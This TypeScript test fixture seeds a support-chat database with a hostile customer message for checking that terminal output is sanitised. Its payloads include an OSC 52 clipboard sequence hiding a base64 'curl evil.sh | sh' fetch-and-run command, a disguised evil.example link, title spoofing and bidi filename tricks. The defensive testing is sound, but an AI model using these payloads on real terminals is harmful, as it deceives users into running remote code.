import type { Kysely } from 'kysely';
import type { Database } from '../../src/server/store/tables.js';

const ESC = '\u001b';

/** Text a hostile customer could send: each would act on a terminal if printed raw. */
export const HOSTILE_PAYLOADS = {
  colour: `${ESC}[31mRED${ESC}[0m`,
  clearScreen: `${ESC}[2J${ESC}[H`,
  osc52Clipboard: `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`,
  osc8Link: `${ESC}]8;;https://evil.example${ESC}\\click me${ESC}]8;;${ESC}\\`,
  titleChange: `${ESC}]0;pwned${ESC}\\`,
  dcs: `${ESC}Pq#0;2;0;0;0${ESC}\\`,
  c1Csi: '\u009b31mC1',
  bell: 'ding\u0007',
  backspaces: 'pay\b\b\bXXX',
  carriageReturn: 'approved\rDENIED',
  del: 'x\u007fy',
  bidiOverride: 'invoice \u202Egnp.exe',
  zeroWidth: 'pay\u200Bpal',
} as const;

/** Every raw control byte or sequence start that must never reach the terminal from customer text. */
export const FORBIDDEN_IN_OUTPUT = [ESC, '\u0007', '\u009b', '\u009d', '\u202E', '\u200B', '\b', '\u007f'];

/** Adds a customer message carrying every payload to a conversation, straight into the database. */
export async function addHostileMessage(db: Kysely<Database>, conversationId: number, now: number): Promise<string> {
  const body = Object.values(HOSTILE_PAYLOADS).join('\n');
  const conversation = await db.selectFrom('conversations').select('customer_id').where('id', '=', conversationId).executeTakeFirstOrThrow();
  await db
    .insertInto('messages')
    .values({ conversation_id: conversationId, client_message_id: null, kind: 'reply', author_type: 'customer', author_id: conversation.customer_id, author_name: `Mallory ${HOSTILE_PAYLOADS.titleChange}`, body, created_at: now })
    .execute();
  await db
    .updateTable('conversations')
    .set((eb) => ({ message_count: eb('message_count', '+', 1), subject: `Refund ${HOSTILE_PAYLOADS.colour} ${HOSTILE_PAYLOADS.bidiOverride}`, last_message_preview: body.slice(0, 140) }))
    .where('id', '=', conversationId)
    .execute();
  return body;
}
